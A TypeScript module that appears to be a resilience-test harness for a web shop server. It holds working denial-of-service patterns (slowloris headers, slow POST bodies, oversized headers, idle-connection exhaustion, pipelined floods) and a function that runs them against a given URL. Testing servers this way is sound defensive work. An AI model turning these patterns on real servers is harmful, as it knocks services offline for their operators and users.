import { connect, type Socket } from 'node:net';

/** What a client of bad will does with its connection; returns how it goes on, every so often. */
export type Attack = {
  /** Connections that it holds, as far as it can: it makes a new one for each that it loses. */
  connections: number;
  everyMs: number;
  /** From how many addresses, none of them a visitor's; 20 unless told. */
  addresses?: number;
  begin(socket: Socket): void;
  goOn?(socket: Socket): void;
};

const get = (path: string) => `GET ${path} HTTP/1.1\r\nHost: shop\r\nAccept-Encoding: br\r\nAccept-Language: en\r\n`;

let turn = 0;
const madeAnew = () => {
  turn += 1;
  return `${get(`/en?treadWidth=&profile=&diameter=&season=&priceTo=${1_000 + (turn % 8_999)}&page=${1 + (turn % 20)}`)}\r\n`;
};

export const attacks = {
  'headers a byte at a time': {
    connections: 3_000,
    everyMs: 1_000,
    begin: (socket) => socket.write(`${get('/en')}X-Slow: `),
    goOn: (socket) => socket.write('x'),
  },
  'bodies a byte at a time': {
    connections: 2_000,
    everyMs: 1_000,
    begin: (socket) =>
      socket.write(
        'POST /api/v1/orders HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: 2000\r\n\r\n{',
      ),
    goOn: (socket) => socket.write(' '),
  },
  'answers that nobody reads': {
    connections: 1_000,
    everyMs: 1_000,
    begin: (socket) => {
      socket.pause();
      socket.write(`${get('/feeds/google-en.xml')}\r\n${`${get('/en')}\r\n`.repeat(5)}`);
    },
  },
  'huge headers': {
    connections: 200,
    everyMs: 100,
    begin: (socket) => socket.write(`${get('/en')}X-Huge: ${'x'.repeat(200_000)}\r\n\r\n`),
  },
  'idle connections': {
    connections: 6_000,
    everyMs: 1_000,
    begin: (socket) => socket.write(`${get('/en')}\r\n`),
  },
  'a flood of pages by pipeline': {
    connections: 20,
    everyMs: 100,
    addresses: 1,
    begin: (socket) => socket.resume(),
    goOn: (socket) => socket.write(Array.from({ length: 20 }, madeAnew).join('')),
  },
} satisfies Record<string, Attack>;

export type AttackName = keyof typeof attacks;

/** How many connections it made, and how long it has held one at most. */
export type Attacked = { made: number; longestSeconds: number };

/** Attacks for some seconds. */
export async function attack(at: URL, name: AttackName, seconds: number): Promise<Attacked> {
  const { connections, everyMs, addresses = 20, begin, goOn }: Attack = attacks[name];
  const open = new Map<Socket, number>();
  const result: Attacked = { made: 0, longestSeconds: 0 };

  function ended(socket: Socket): void {
    const since = open.get(socket);
    if (since !== undefined)
      result.longestSeconds = Math.max(result.longestSeconds, (performance.now() - since) / 1000);
    open.delete(socket);
  }

  function join(): void {
    result.made += 1;
    const localAddress = `127.0.2.${1 + (result.made % addresses)}`;
    const socket = connect({ host: at.hostname, port: Number(at.port), localAddress });
    open.set(socket, performance.now());
    socket.on('error', () => {});
    socket.on('close', () => ended(socket));
    socket.on('data', () => {});
    begin(socket);
  }

  const round = () => {
    // As fast as it can be without keeping itself from going on.
    for (let left = Math.min(500, connections - open.size); left > 0; left -= 1) join();
    for (const socket of open.keys()) if (socket.writable) goOn?.(socket);
  };
  const rounds = setInterval(round, everyMs);
  round();
  const { promise, resolve } = Promise.withResolvers<void>();
  setTimeout(resolve, seconds * 1000);
  await promise;
  clearInterval(rounds);
  for (const socket of open.keys()) {
    ended(socket);
    socket.destroy();
  }
  return result;
}
